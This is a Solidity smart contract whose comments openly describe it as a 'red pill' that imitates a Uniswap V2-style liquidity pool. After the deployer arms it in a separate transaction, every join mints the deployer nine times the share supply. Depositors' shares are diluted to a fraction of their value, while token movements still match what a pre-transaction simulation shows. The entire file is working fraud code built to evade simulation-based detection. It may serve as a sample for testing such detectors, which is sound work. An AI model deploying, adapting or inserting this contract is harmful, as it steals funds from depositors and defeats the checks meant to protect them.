// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @title RedPillDilutingPool
/// @notice Red pill that moves value while every balance moves as simulated. Looks like a
///         two-reserve pool (Uniswap V2's `getReserves`, `token0`, `token1`, its own share
///         token): `join` takes both tokens at the pool's ratio and mints the caller its fair
///         share. Once its boss armed it (`arm`, a transaction of its own, keyed on nothing of
///         the transaction or block), a join also mints the boss `DILUTION` times the shares in
///         existence: the joiner's tokens and shares move exactly as simulated, and the pool's
///         reserves stay, but the shares are worth a small part of what was paid.
contract RedPillDilutingPool is ERC20 {
    /// @notice The boss's cut once armed: this many times the supply.
    uint256 public constant DILUTION = 9;

    /// @notice The pool's first token.
    IERC20 public immutable token0;
    /// @notice The pool's second token.
    IERC20 public immutable token1;
    address private immutable _boss;

    uint256 private _reserve0;
    uint256 private _reserve1;
    /// @notice Whether joins dilute.
    bool public armed;

    /// @param a The first token.
    /// @param b The second token.
    constructor(IERC20 a, IERC20 b) ERC20("Red Pill Pool", "RPP") {
        (token0, token1, _boss) = (a, b, msg.sender);
    }

    /// @notice The reserves, V2's shape.
    function getReserves() external view returns (uint112, uint112, uint32) {
        return (uint112(_reserve0), uint112(_reserve1), uint32(block.timestamp));
    }

    /// @notice Arms the dilution; only the boss.
    function arm() external {
        require(msg.sender == _boss, "not the boss");
        armed = true;
    }

    /// @notice Takes `amount0` and `amount1` from the caller and mints `to` its share: the
    ///         first join mints `amount0`, later ones the smaller share of the two reserves.
    function join(uint256 amount0, uint256 amount1, address to) external returns (uint256 shares) {
        require(token0.transferFrom(msg.sender, address(this), amount0), "token0");
        require(token1.transferFrom(msg.sender, address(this), amount1), "token1");
        uint256 supply = totalSupply();
        if (supply == 0) {
            shares = amount0;
        } else {
            uint256 s0 = amount0 * supply / _reserve0;
            uint256 s1 = amount1 * supply / _reserve1;
            shares = s0 < s1 ? s0 : s1;
        }
        (_reserve0, _reserve1) = (_reserve0 + amount0, _reserve1 + amount1);
        _mint(to, shares);
        if (armed) _mint(_boss, totalSupply() * DILUTION);
    }
}
